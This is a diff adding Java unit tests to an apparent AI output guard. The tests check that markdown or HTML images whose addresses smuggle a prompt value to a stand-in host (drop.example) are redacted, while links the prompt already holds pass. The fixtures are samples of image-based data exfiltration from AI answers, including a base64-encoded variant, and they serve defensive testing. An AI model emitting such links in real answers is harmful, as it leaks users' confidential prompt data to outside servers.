@@ -22,6 +22,47 @@ final class OutputScannersTest {
           .withoutPadding()
           .encodeToString("the customer is called Rosa".getBytes(StandardCharsets.US_ASCII));
 
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "![x](https://drop.example/p.png?d=lantern7731)",
+        "![x](https://drop.example/lantern-7731.png)",
+        "![x](https://lantern7731.drop.example/p.png)",
+        "![x](https://drop.example/p.png?d=bGFudGVybjc3MzE)",
+        "<img src=\"https://drop.example/#lantern%207731\">"
+      })
+  void pictureWhoseAddressCarriesAValueOfThePrompt_isTakenOut(String answer) {
+    Inspection inspection = withPrompt(answer);
+
+    assertThat(inspection.verdict()).isEqualTo(Verdict.REDACT);
+    assertThat(inspection.treated().getFirst().text()).doesNotContain("drop.example");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "![logo](https://cdn.example/logo-2024b.png)",
+        "[our conditions](https://shop.example/lantern-7731)",
+        "![x](https://cdn.example/chart.png?width=800)"
+      })
+  void addressThatThePromptHolds_orThatSaysNothing_passes(String answer) {
+    assertThat(withPrompt(answer).verdict()).isEqualTo(Verdict.ALLOW);
+  }
+
+  private static Inspection withPrompt(String answer) {
+    return GUARD.inspect(
+        List.of(Segment.of("answer", answer, Origin.ASSISTANT)),
+        Direction.OUTPUT,
+        Policy.balanced(),
+        new GuardContext(
+            "tenant",
+            "one",
+            List.of(),
+            List.of(
+                "The code is Lantern-7731. Show https://cdn.example/logo-2024b.png, send people to"
+                    + " https://shop.example/lantern-7731 for it.")));
+  }
+
   private static Inspection output(String text) {
     return output(text, Policy.balanced());
   }
